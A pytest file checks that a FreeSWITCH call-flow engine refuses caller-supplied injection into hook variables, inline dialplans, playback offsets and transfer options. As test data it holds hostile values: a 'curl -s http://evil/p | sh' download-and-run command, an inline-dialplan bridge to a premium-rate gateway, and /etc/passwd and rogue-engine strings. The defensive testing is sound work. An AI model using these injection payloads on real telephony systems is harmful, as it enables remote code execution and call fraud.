"""Five classes an attack from outside found, each judged by the FreeSWITCH model
(tests/freeswitch_model.py): a variable FreeSWITCH later runs, the inline dialplan, ``@@`` in
a playback path, author text the expander removes before a start check, and a quoted
transfer word. Each test ran wrong before its fix."""

from __future__ import annotations

from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flowengine.errors import UnsafeValue
from flowengine.flows import taint
from flowengine.flows.effects import HttpRequest, HttpResult
from flowengine.runtime.interpreter import _encoded
from flowengine.flows.model import Step
from flowengine.flows.source import parse_source
from flowengine.flows.steps import KINDS
from flowengine.flows.templates import expand
from flowengine.quoting import app_arg
from flowengine.quoting.api import setvar_args

from . import freeswitch_model as fs
from .flowkit import complete, flow_from, play
from .test_execute_call_data import unchecked
from .test_quoting_flows import channel, fs_encoded
from .test_quoting_properties import HOSTILE, SETTINGS, FakeRun, on_the_wire, origins, passes


class Run(FakeRun):
    """A run of a flow with no ``tts:`` (speak then takes engine and voice from the channel)."""

    flow = SimpleNamespace(tts={}, name="t")


def first_command(spec: dict, values: dict[str, str], kind: str):
    """The first application a step of ``kind`` sends, encoded as the interpreter encodes it."""
    return _encoded(next(KINDS[kind].run(Run(values), Step("s", kind, spec))))


UUID = "0d7a4e52-3f1c-4b8e-9a2d-5c6b7e8f9a0b"
SHELL = "x; curl -s http://evil/p | sh"


def _refused(call, *args) -> bool:
    try:
        call(*args)
    except UnsafeValue:
        return True
    return False


def _call(text: str) -> bool:
    return any(o == "call" for _, o in text) if isinstance(text, list) else False


# -- F1: a variable FreeSWITCH runs takes no call data, however it is set -------------------------
def _model_names() -> list[str]:
    """Every variable the model says FreeSWITCH runs or routes by, and forms of the prefixes."""
    names = list(fs.API_VARIABLES + fs.APP_VARIABLES + fs.ROUTE_VARIABLES + fs.COPY_VARIABLES + fs.HOOK_FLAGS)
    names += [p + "answer" for p in fs.API_PREFIXES + fs.APP_PREFIXES]
    names += [p.upper() + "Hangup_2" for p in fs.API_PREFIXES + fs.APP_PREFIXES]
    return names


@pytest.mark.parametrize("name", _model_names())
def test_a_variable_freeswitch_runs_is_never_set_from_the_call(name):
    assert fs.variable_use(name) is not None
    value = expand("system /usr/local/bin/notify ${caller_id_name}", {"caller_id_name": SHELL}.get)
    command, argument = fs.hook_command(name, str(value))    # what FreeSWITCH would run (the model)
    assert command == "system" and SHELL in argument
    for app in ("set", "export", "push", "unshift"):
        arg = expand(f"{name}=system /usr/local/bin/notify ${{caller_id_name}}", {"caller_id_name": SHELL}.get)
        assert _refused(app_arg, arg, app), (app, name)
    assert _refused(app_arg, expand(f"nolocal:{name}=${{v}}", {"v": SHELL}.get), "export")
    assert _refused(setvar_args, UUID, name, value), name
    from flowengine.quoting.variables import variable_check
    assert variable_check(name, True) is not None
    # the author's own text is the author's: set as written, either way
    assert app_arg(expand(f"{name}=system /usr/local/bin/notify", {}.get), "set") \
        == f"{name}=system /usr/local/bin/notify"
    assert setvar_args(UUID, name, expand("system /usr/local/bin/notify", {}.get)) is not None


NAMES = st.one_of(st.sampled_from(_model_names()),
                  st.sampled_from(["who", "lang", "api_key", "execute", "hangup_after_bridge", "sound_prefixes"]))


@SETTINGS
@given(NAMES, st.sampled_from(["", "nolocal:", "_nolocal_", "NoLocal:", "nolocal:nolocal:", "_nolocal_NoLocal:"]),
       HOSTILE,
       st.sampled_from(["${v}", "system notify ${v}", "playback:ivr/${v}.wav", "${v} XML default"]))
def test_call_data_reaches_no_variable_freeswitch_runs(name, prefix, value, template):
    # the model says which variables FreeSWITCH runs or routes by (export's nolocal: prefix
    # sets the same name on the other leg); into those the call's value may never go
    runs = fs.variable_use(name) is not None
    for app in ("export",) if prefix else ("set", "push", "export"):
        arg = expand(f"{prefix}{name}={template}", {"v": value}.get)
        try:
            app_arg(arg, app)
        except UnsafeValue:
            continue
        assert not runs or value == "", (app, name, value)
    try:
        args = setvar_args(UUID, name, expand(template, {"v": value}.get))
    except UnsafeValue:
        assert runs
        return
    assert not runs or value == "" or args is None, (name, args)


HOOK_FLOW = """
name: t
start: s
steps:
  s: {set: {api_hangup_hook: "system /usr/local/bin/notify ${caller_id_name}"}, next: bye}
  bye: {hangup: NORMAL_CLEARING}
"""


def test_the_hangup_hook_reproduction_runs_nothing_from_the_caller():
    # --check refuses this flow (test_check_names_call_data_…): the call's own refusal holds
    # whatever was loaded
    run = play(unchecked(HOOK_FLOW), lambda c: complete(c.app, c.arg), channel=channel(name=fs_encoded(SHELL)))
    stored = dict(fs.set_application(arg, {}.get) for app, arg in run.executed if app in ("set", "export"))
    for name, value in stored.items():
        if value and fs.variable_use(name):
            assert "curl" not in fs.text_of(fs.chars(value, "?")), (name, value)
    assert run.executed[-1] == ("hangup", "NORMAL_TEMPORARY_FAILURE")


def test_check_names_call_data_in_a_variable_freeswitch_runs():
    flow = parse_source(HOOK_FLOW, "flows/t.yaml").data
    found = taint.variable_errors(flow["steps"]["s"], flow)
    assert [path for path, _ in found] == [("set", "api_hangup_hook")]
    assert "${caller_id_name}" in found[0][1] and "runs" in found[0][1]
    own = parse_source(HOOK_FLOW.replace("${caller_id_name}", "hangup"), "flows/t.yaml").data
    assert taint.variable_errors(own["steps"]["s"], own) == []


@pytest.mark.parametrize("value, templates", [
    ("../../../../var/lib/freeswitch/recordings", ("sound_prefix=/usr/share/freeswitch/sounds/${lang}",
                                                   "sound_prefix=${lang}")),
    ("/var/lib/freeswitch/recordings", ("sound_prefix=${lang}", "sound_prefix=\\'${lang}")),
    ("en@@8000", ("sound_prefix=/usr/share/freeswitch/sounds/${lang}",))])
def test_sound_prefix_from_the_call_is_a_folder_name_inside_the_authors(value, templates):
    for template in templates:
        arg = expand(template, {"lang": value}.get)
        assert _refused(app_arg, arg, "set"), template
        assert _refused(setvar_args, UUID, "sound_prefix", arg[len("sound_prefix="):]), template
    fine = expand("sound_prefix=/usr/share/freeswitch/sounds/${lang}", {"lang": "fr"}.get)
    assert app_arg(fine, "set") == "sound_prefix=/usr/share/freeswitch/sounds/fr"


# -- F2: the inline dialplan reads the extension as applications ----------------------------------
TRANSFERS = ["${v} inline", "playback:greetings/${v}.wav inline", "${v} XML default", "1000 ${v}",
             "${v} ${v}", "1000 ${v} default", "${v} XML,inline", "${v} Inline:x", "-bleg ${v} inline"]
INLINE_HOSTILE = st.one_of(HOSTILE, st.lists(st.sampled_from(
    ["x", ",", ":", "bridge", "sofia/gateway/gw/0900", "m:", "^^", "inline", "XML", "-bleg", "'", "1000"]),
    max_size=6).map("".join))


@SETTINGS
@given(st.sampled_from(TRANSFERS), INLINE_HOSTILE)
def test_call_data_never_adds_an_application_through_the_inline_dialplan(template, value):
    values = {"v": value}
    spec = {"transfer": template}
    try:
        command = first_command(spec, values, "transfer")
    except UnsafeValue:
        return
    text = expand(" ".join(template.split()), values.get)
    cs, _ = passes(origins(on_the_wire("transfer", command.arg), text), 1)
    transfer = fs.transfer_application(cs)
    assert not (transfer.leg != "self" and _call(transfer.flag_word))
    for _name, arg in fs.dialplans(transfer.dialplan or fs.chars("XML", "fs")):
        assert arg is None or not _call(arg), fs.text_of(arg)
    apps = fs.routed_applications(transfer)
    if apps is not None:
        for app, data in apps:
            assert not _call(app) and not (data and _call(data)), (template, value)


def test_the_inline_reproductions_are_refused_and_the_authors_own_list_is_sent():
    for template, value in (("playback:greetings/${v}.wav inline", "x,bridge:sofia/gateway/gw/0900123456,hangup:x"),
                            ("${v} inline", "bridge:sofia/gateway/gw/0900123456"),
                            ("1000 ${v}", "inline:bridge:sofia/gateway/gw/0900123456")):
        assert _refused(first_command, {"transfer": template}, {"v": value}, "transfer"), template
    command = first_command({"transfer": {"extension": "playback:ivr/hello.wav,hangup", "dialplan": "inline"}},
                            {}, "transfer")
    assert command.arg == "playback:ivr/hello.wav,hangup inline"
    assert first_command({"transfer": "${v} XML default"}, {"v": "1001"}, "transfer").arg == "1001 XML default"


# -- F3: '@@' from the call never cuts a playback path --------------------------------------------
@SETTINGS
@given(st.one_of(HOSTILE, st.lists(st.sampled_from(["vm", "@", "@@", "480000", "/", "."]), max_size=5).map("".join)))
def test_call_data_in_a_playback_path_never_sets_a_sample_offset(name):
    for spec in ({"playback": "ivr/${n}.wav"}, {"playback": {"files": "ivr/${n}.wav"}}):
        try:
            command = first_command(spec, {"n": name}, "playback")
        except UnsafeValue:
            continue
        arg = on_the_wire("playback", command.arg)
        cs, _ = passes(fs.chars(arg, "?"), 1)
        file, samples = fs.playback_file(fs.text_of(cs))
        assert (file, samples) == (f"ivr/{name}.wav", 0)


def test_the_authors_own_offset_still_takes_the_calls_digits():
    command = first_command({"playback": "ivr/long.wav@@${at}"}, {"at": "8000"}, "playback")
    assert fs.playback_file(on_the_wire("playback", command.arg)) == ("ivr/long.wav", 8000)


def test_a_hold_prompt_from_the_call_never_sets_a_sample_offset():
    flow = flow_from("""
name: t
start: ask
steps:
  ask:
    http: {url: "https://crm.example.com/lang", save: {greeting: greeting}}
    next: s
  s:
    http: {url: "https://crm.example.com/slow", while_waiting: {after: 1s, play: "hold/${greeting}.wav"}}
    next: bye
  bye: {hangup: NORMAL_CLEARING}
""")
    answers = [HttpResult(200, b'{"greeting": "music@@960000"}', "application/json"),
               HttpResult(200, b"{}", "application/json")]
    seen = []

    def answer(command):
        if isinstance(command, HttpRequest):
            seen.append(command)
            return answers.pop(0)
        return complete(command.app, command.arg)
    run = play(flow, answer)
    for request in seen:
        if request.hold is not None:
            assert fs.playback_file(request.hold.play)[1] == 0 and "@" not in request.hold.play
    assert run.executed[-1] == ("hangup", "NORMAL_TEMPORARY_FAILURE")


# -- F4: the author's text FreeSWITCH removes never hands the call the start ----------------------
REMOVABLE = st.lists(st.sampled_from(["\\'", "${x}", "$${x}", "${no_such_var}"]), min_size=1, max_size=3).map("".join)
HEAD = st.sampled_from(["", "%", "ARR", "^", "-"])
DANGEROUS = st.sampled_from(["^^:evil:voice:", "%[tts_engine=evil]", "[tts_engine=evil]", "{voice=evil}",
                             "ARRAY::evil|:x", "AY::evil|:x", "-bleg", "bleg", "^:7001:XML:default:", "/etc/passwd",
                             "etc/passwd", "-both"])
TAIL = st.text(st.sampled_from(list("ab1|:,")), max_size=4)


def _fs_text(kind: str, spec: dict, values: dict, n: int = 1) -> str:
    command = first_command(spec, values, kind)
    cs, _ = passes(fs.chars(on_the_wire(command.app, command.arg), "?"), n)
    return fs.text_of(cs)


@SETTINGS
@given(HEAD, REMOVABLE, DANGEROUS, TAIL)
def test_removable_author_text_never_lets_the_call_start_an_argument(head, removable, start, tail):
    values = {"v": start + tail}
    template = head + removable + "${v}"
    for kind, spec, check in (
            ("speak", {"speak": template}, _speak_unchanged),
            ("set", {"set": {"who": template}}, _set_unchanged),
            ("transfer", {"transfer": template + " XML agents"}, _transfer_unchanged),
            ("playback", {"playback": template}, _path_unchanged)):
        try:
            text = _fs_text(kind, spec, values, 2 if kind == "set" else 1)
        except UnsafeValue:
            continue
        check(text, head)


def _speak_unchanged(text: str, head: str) -> None:
    scoped, rest = fs.scoped_variables(text)
    engine, voice, _, params = fs.speak_parts(rest)
    assert (scoped, engine, voice, params) == ([], None, None, []), text


def _set_unchanged(text: str, head: str) -> None:
    value = text.split("=", 1)[1]
    assert not value.startswith("ARRAY::"), text      # the author wrote no array


def _transfer_unchanged(text: str, head: str) -> None:
    argv = [fs.text_of(w) for w in fs.separate_blank(fs.chars(text, "?"), 4)]
    assert argv[1:] == ["XML", "agents"] and argv[0].lower() not in ("-bleg", "-both"), (text, argv)


def _path_unchanged(text: str, head: str) -> None:
    assert not text.startswith("/"), text


def test_the_author_prefix_reproductions_are_refused():
    cases = [("transfer", {"transfer": "\\'${v} XML agents"}, "^^:7001:XML:default:"),
             ("speak", {"speak": "\\'${v}"}, "^^:evil_engine:evil_voice:Hello"),
             ("speak", {"speak": "\\'${v}"}, "%[tts_engine=flite,tts_voice=kal]hi"),
             ("speak", {"speak": "%${no_such_var}${v}"}, "[tts_engine=evil,tts_voice=x]hi")]
    for kind, spec, value in cases:
        assert _refused(first_command, spec, {"v": value}, kind), (spec, value)
    spoken = _fs_text("speak", {"speak": "\\'${v}"}, {"v": "{voice=rms}hi"})
    assert fs.speak_parts(spoken)[3] == []
    for template in ("\\'${v}", "ARR${no_such_var}${v}"):
        value = "ARRAY::evil|:second" if template.startswith("\\") else "AY::evil|:second"
        command = first_command({"set": {"who": template}}, {"v": value}, "set")
        assert not fs.set_application(command.arg, {}.get)[1].startswith("ARRAY::"), command.arg


# -- F5: a quoted first transfer word is compared without its quotes -----------------------------
def test_a_quoted_transfer_word_from_the_call_is_no_option():
    assert _refused(first_command, {"transfer": "'${v}' XML agents"}, {"v": "-bleg"}, "transfer")
    command = first_command({"transfer": "'${v}' XML agents"}, {"v": "1000"}, "transfer")
    argv = [fs.text_of(w) for w in fs.separate_blank(fs.chars(on_the_wire("transfer", command.arg), "?"), 4)]
    assert argv == ["1000", "XML", "agents"]


def test_the_authors_delimiter_from_the_call_splits_no_transfer_word():
    for value in ("1000:inline", "1000:XML:evil"):
        assert _refused(first_command, {"transfer": "^^:${v}:XML:default"}, {"v": value}, "transfer"), value
    command = first_command({"transfer": "^^:${v}:XML:default"}, {"v": "1000"}, "transfer")
    transfer = fs.transfer_application(fs.chars(on_the_wire("transfer", command.arg), "?"))
    assert [fs.text_of(w or []) for w in (transfer.extension, transfer.dialplan, transfer.context)] \
        == ["1000", "XML", "default"]
